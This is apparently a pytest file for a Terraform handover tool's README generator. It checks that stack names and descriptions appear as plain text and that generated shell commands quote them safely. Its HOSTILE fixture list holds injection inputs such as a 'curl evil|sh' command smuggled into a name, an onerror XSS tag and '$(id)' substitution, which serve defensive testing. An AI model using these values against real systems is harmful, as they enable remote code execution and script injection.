"""The READMEs show names and texts of other people as nothing but text, and commands that do what they show."""

import re
import shlex
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ops.handover.conversion import Converted
from ops.handover.edit_places import EditPlace, MemberList, located
from ops.handover.hcl import Block, ObjectExpr, Verbatim
from ops.handover.hcl import text as constant
from ops.handover.markdown import command
from ops.handover.paths import wrong_name
from ops.handover.readme import overview, stack_readme
from ops.handover.stacks import HandoverStack

HOSTILE = [
    "x;curl evil|sh #",
    "<img src=x onerror=alert(1)>",
    "`a` ``b",
    "$(id) `id` ${HOME} !!",
    'it\'s "quoted"',
    "[a](https://example.com) ![b](c)",
    "a|b||c",
    "**a** _b_ ~~c~~ # &lt; &#x3c;",
    "-rf",
    "架け橋 שלום",
    "a  b ",
    "1. a",
]
PIECES = [
    *HOSTILE,
    "`",
    "|",
    "<",
    ">",
    "&",
    "\\",
    "[",
    "]",
    "(",
    ")",
    "'",
    '"',
    "$",
    ";",
    "#",
    "*",
    "_",
    "\n",
    "---",
    "a",
]
texts = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), min_size=1, max_size=6).map("".join)
names = texts.filter(lambda name: wrong_name(name) is None)


def stack(name: str, text: str = "", needs: frozenset[str] = frozenset()) -> HandoverStack:
    document = {
        "variable": {"size": {"type": "string", "description": text, "default": text}},
        "output": {"it": {"value": 1, "description": text}},
    }
    return HandoverStack(name=name, document=document, file=Path("x"), dependencies=needs, files_read={})


def tokens(markdown: str) -> list[Token]:
    """Every token, with those inside paragraphs and cells."""
    found = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    return [it for token in found for it in (token, *(token.children or []))]


def shown(text: str) -> str:
    return " ".join(text.split())


def kinds(found: list[Token]) -> list[str]:
    """What a reader sees, without the text."""
    return [it.type for it in found if it.type not in ("text", "text_special")]


@pytest.mark.slow
@given(first=names, second=names)
@example(first=HOSTILE[0], second=HOSTILE[1])
@example(first=HOSTILE[2], second=HOSTILE[3])
@example(first=HOSTILE[10], second=HOSTILE[6])
def test_a_name_is_only_text_in_the_overview_and_one_word_in_its_commands(first: str, second: str) -> None:
    assume(first != second)
    stacks = [stack(first), stack(second, needs=frozenset({first}))]
    found = tokens(overview(stacks, has_moves=True))
    assert kinds(found) == kinds(tokens(overview([stack("a"), stack("b", needs=frozenset({"a"}))], has_moves=True)))
    links = [unquote(str(it.attrs["href"])) for it in found if it.type == "link_open"]
    assert links == [f"{first}/", f"{second}/"]
    codes = [shown(it.content) for it in found if it.type == "code_inline"]
    assert codes[:3] == [shown(first), shown(second), shown(first)]
    (commands,) = [it.content for it in found if it.type == "fence"]
    lines = commands.splitlines()
    assert all(line.startswith("$ terraform ") for line in lines)
    expected = [
        ["terraform", f"-chdir={it}", command] for it in (first, second) for command in ("init", "plan", "apply")
    ]
    assert [shlex.split(line.removeprefix("$ ")) for line in lines] == expected


def test_bash_takes_a_hostile_name_as_one_word() -> None:
    stacks = [stack(name) for name in HOSTILE]
    (commands,) = [it.content for it in tokens(overview(stacks, has_moves=False)) if it.type == "fence"]
    script = 'terraform() { printf "%s\\n" "$1"; }\n' + commands.replace("$ terraform", "terraform")
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout.splitlines() == [f"-chdir={name}" for name in HOSTILE for _ in range(3)]


@pytest.mark.slow
@given(name=names, text=texts, other=names)
@example(name=HOSTILE[1], text=HOSTILE[1], other=HOSTILE[2])
@example(name=HOSTILE[11], text=HOSTILE[6], other=HOSTILE[7])
def test_names_and_descriptions_are_only_text_in_a_stacks_readme(name: str, text: str, other: str) -> None:
    assume(name != other)

    def readme(name: str, text: str, other: str) -> list[Token]:
        stacks = [stack(other), stack(name, text, frozenset({other}))]
        place = EditPlace(file="locals.tf", name="local.mirrors", what="mirrors")
        files = {"terraform.tfvars": "", f"files/{other}": "", "moved.tf": ""}
        return tokens(stack_readme(stacks[1], stacks, Converted(files=files, addresses={}, edit_places=[place])))

    found = readme(name, text, other)
    if text.strip():
        assert kinds(found) == kinds(readme("a", "b", "c"))
    read = [shown("".join(it.content for it in token.children or [])) for token in found if token.type == "inline"]
    assert read[0] == shown(name)
    assert shown(f"files/{other}") in [shown(it.content) for it in found if it.type == "code_inline"]
    if not re.search(r"[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", text):
        assert shown(text) in read[1:]


def test_shows_what_cannot_be_seen_in_a_description() -> None:
    text = stack_readme(stack("web", "a\0b\u202ec"), [], Converted(files={}, addresses={}))
    assert "| a\\\\x00b\\\\u202ec |" in text


@pytest.mark.parametrize(
    ("entries", "also"),
    [
        ({"a": "website", "b": "batch"}, []),  # each entry chooses one
        ({"a": "website, batch"}, ["locals.tf"]),  # an entry of all needs the next one, too
        ({"website": "x", "batch": "y"}, ["locals.tf"]),
    ],
)
def test_names_a_file_of_another_list_only_where_an_entry_has_all_keys(
    entries: dict[str, str], also: list[str]
) -> None:
    others = ObjectExpr(tuple((constant(key), constant(value)) for key, value in entries.items()))
    files = {
        "locals.tf": [Block("locals", arguments={"others": others})],
        "own.tf": [Block("locals", arguments={"mirrors": Verbatim("[website, batch]")})],
    }
    lists = [
        MemberList(address="local.mirrors", what="mirrors", keys=["website", "batch"]),
        MemberList(address="local.others", what="others", keys=list(entries)),
    ]
    mirrors, _ = located(lists, files, {"locals.tf": "website batch", "own.tf": "website batch"})
    assert mirrors == EditPlace(file="own.tf", name="local.mirrors", what="mirrors", also=also)


def test_names_the_file_of_a_list_where_something_else_in_it_has_all_keys() -> None:
    files = {"own.tf": [Block("locals", arguments={"mirrors": Verbatim("{}"), "x": constant("website batch")})]}
    lists = [MemberList(address="local.mirrors", what="mirrors", keys=["website", "batch"])]
    (mirrors,) = located(lists, files, {"own.tf": "website batch"})
    assert mirrors.also == ["own.tf"]


def test_names_the_places_where_something_is_added() -> None:
    files = {
        "locals.tf": [Block("locals", arguments={"mirrors": Verbatim("{}")})],
        "sns.tf": [Block("resource", ("aws_sns_topic", "news"))],
    }
    lists = [
        MemberList(address="local.mirrors", what="mirrors", keys=["website", "batch"], ids=["vpce-0123456789abcdef0"]),
        MemberList(address="aws_sns_topic.news", what="news topic", keys=["a", "c"]),
        MemberList(address="local.none", what="nothing", keys=["a", "c"]),
    ]
    texts = {
        "api.tf": '{\\"website\\": 1, \\"batch\\": 2}, a = 1',
        "locals.tf": "website batch",
        "moved.tf": 'x["website"] x["batch"] x["a"] x["c"]',
        "one.tf": 'website batch-jobs "a" x-c x.c c',
        "terraform.tfvars": "cidrs = {\n  a = 1\n  c = 2\n}\nnot-website batch\n",
        "push.tf": '["arn:aws:codecommit:x:1:batch"]',
        "pull.tf": '[for it in keys(local.mirrors) : it if !startswith(it, "batch")]',
        "pattern.json": '{"endpoint":"vpce-0123456789abcdef0"}',
        "units/batch.json": "",
        "units/website.json": "",
    }
    places = located(lists, files, texts)
    also = ["api.tf", "units/KEY.json"]
    assert places == [
        EditPlace(file="locals.tf", name="local.mirrors", what="mirrors", also=also, some=("pattern.json", "push.tf")),
        EditPlace(file="sns.tf", name="aws_sns_topic.news", what="news topic", also=["terraform.tfvars"]),
    ]
    places.append(EditPlace(file="locals.tf", name="local.spaces", what="hook", within="hooks"))
    converted = Converted(files={"terraform.tfvars": "size = 1\n"}, addresses={}, edit_places=places)
    text = stack_readme(stack("web"), [stack("web")], converted)
    assert (
        "| what | where |\n"
        "| --- | --- |\n"
        "| the values of the inputs | [`terraform.tfvars`](terraform.tfvars) |\n"
        "| which mirrors there are, and how they differ | `local.mirrors` in [`locals.tf`](locals.tf); "
        "each is also in `api.tf`, `units/KEY.json`; some are also in `pattern.json`, `push.tf` |\n"
        "| which news topics there are, and how they differ | `aws_sns_topic.news` in [`sns.tf`](sns.tf); "
        "each is also in `terraform.tfvars` |\n"
        "| which hooks there are, and how they differ | `hooks` of each entry of `local.spaces` in "
        "[`locals.tf`](locals.tf) |\n"
        "\nA new entry in a `local` value needs every argument that the others there have: `null` where it has none, "
        "and `false`\nwhere the others have `true` or `false`.\n"
        "\nChange everything else"
    ) in text


def readme(document: dict[str, Any], **files: str) -> str:
    it = HandoverStack(name="web", document=document, file=Path("x"), files_read={})
    return stack_readme(it, [it], Converted(files=files, addresses={}))


def test_has_no_empty_sections() -> None:
    text = readme({})
    assert text.startswith("# web\n\nIts state is ")
    assert "## What to change where\n\nChange everything else" not in text
    assert "## What to change where\n\nChange it in the `.tf` files." in text
    assert "\n\n\n" not in text


def test_says_where_the_state_is() -> None:
    def state(terraform: Any) -> str:
        return readme({"terraform": terraform}).split("\n\n")[1]

    assert state({}) == "Its state is `terraform.tfstate` in this folder, because no backend is set."
    assert state({"cloud": {"organization": "acme", "workspaces": {"name": "web"}}}) == (
        "Its state is in HCP Terraform (`acme/web`), set in `backend.tf`."
    )
    assert state([{"cloud": [{}]}]) == "Its state is in HCP Terraform, set in `backend.tf`."
    assert state({"backend": {"s3": {"bucket": "b", "key": "k"}}}) == "Its state is `s3://b/k`, set in `backend.tf`."
    assert state({"backend": {"local": {"path": "../a"}}}).startswith(
        "Its state is `../a`, set in `backend.tf`.\nA relative path starts at this folder."
    )
    others = {"remote_state.tf": 'data "terraform_remote_state" "b" {\n  backend = "local"\n}\n'}
    assert (
        "If you move the folder, change the path, and those in `remote_state.tf`, so that they still lead to existing "
        "states."
    ) in readme({"terraform": {"backend": {"local": {"path": "../a"}}}}, **others)
    for path in ("/home/me/a.tfstate", "C:\\me\\a.tfstate"):
        assert state({"backend": {"local": {"path": path}}}) == (
            f"Its state is `{path}`, set in `backend.tf`.\n"
            "On a machine without this file, Terraform begins an empty state, and plans every resource as new."
        )


def test_says_to_log_in_only_where_a_stack_names_its_account() -> None:
    aws = {"provider": {"aws": [{"allowed_account_ids": ["111111111111"]}]}}
    one = HandoverStack(name="web", document=aws, file=Path("x"), files_read={})
    assert "Log in to the account of the stack, then:" in overview([one, stack("b")], has_moves=False)
    assert "Log in" not in overview([stack("b")], has_moves=False)


def test_says_what_removed_blocks_do() -> None:
    text = readme({}, **{"removed.tf": ""})
    assert "`removed.tf` names what the first apply removes from the state" in text
    assert "removed.tf" not in readme({})


def test_lists_what_to_do_after_the_first_apply_as_text() -> None:
    text = readme({"//": {"after_apply": ["Log in as `root`.", 1, "Confirm <b>mails</b>."]}})
    assert (
        "\n```\n\n## After the first apply\n\n* Log in as \\`root\\`.\n* Confirm \\<b\\>mails\\</b\\>.\n"
        "\nRepeat these steps for what a later apply adds, and undo them for what it removes.\n\n## What"
    ) in text
    for comment in ("x", {"after_apply": "x"}, None):
        assert "After the first apply" not in readme({"//": comment})


@pytest.mark.parametrize("invisible", ["\u200b", "\u2028", "\u00ad", "\U000e0041", "\x1b", "\u202e"])
def test_a_command_has_nothing_that_people_would_copy_unseen(invisible: str) -> None:
    assert command(f"ls {invisible}x") == f"$ ls {invisible.encode('unicode_escape').decode()}x"


def test_a_step_after_the_first_apply_has_its_commands_below_it() -> None:
    commands = ["aws iam  get-user | jq '.User'", 1, "```\n# <b>"]
    steps = [{"text": "Look <b>up</b>.", "commands": commands}, {"text": "Wait.", "commands": "x"}, {"commands": []}]
    assert (
        "\n## After the first apply\n\n* Look \\<b\\>up\\</b\\>.\n"
        "\n  ```console\n  $ aws iam  get-user | jq '.User'\n  $ ```\\n# <b>\n  ```\n* Wait.\n"
        "\nRepeat these steps"
    ) in readme({"//": {"after_apply": steps}})


def test_lists_what_to_change_in_other_stacks_below_the_places() -> None:
    text = readme({"//": {"other_stacks": ["Add it in `b`.", 1, {"text": "x"}]}})
    assert (
        "\n## What to change where\n\nOther stacks name some of this, too:\n\n* Add it in \\`b\\`.\n\nChange it in"
        in text
    )
    assert "Other stacks" not in readme({"//": {"other_stacks": []}})


def test_a_file_with_the_key_of_a_single_member_need_not_have_the_next_one() -> None:
    files = {"own.tf": [Block("locals", arguments={"mirrors": Verbatim("{}")})]}
    lists = [MemberList(address="local.mirrors", what="mirrors", keys=["website"])]
    texts = {"own.tf": "website", "pull.tf": '["arn:aws:codecommit:x:1:website"]', "units/website.json": ""}
    (mirrors,) = located(lists, files, texts)
    assert mirrors == EditPlace(
        file="own.tf", name="local.mirrors", what="mirrors", also=["units/KEY.json"], some=("pull.tf",)
    )


def test_a_tag_of_the_provider_that_is_called_like_a_member_is_no_place_to_add_one() -> None:
    files = {"own.tf": [Block("locals", arguments={"spaces": Verbatim("{}")})]}
    lists = [MemberList(address="local.spaces", what="spaces", keys=["partner", "sakura"])]
    texts = {"own.tf": "", "providers.tf": 'tags = { "project" = "sakura" }', "backend.tf": 'bucket = "partner"'}
    (spaces,) = located(lists, files, texts)
    assert (spaces.also, spaces.some) == ([], ())
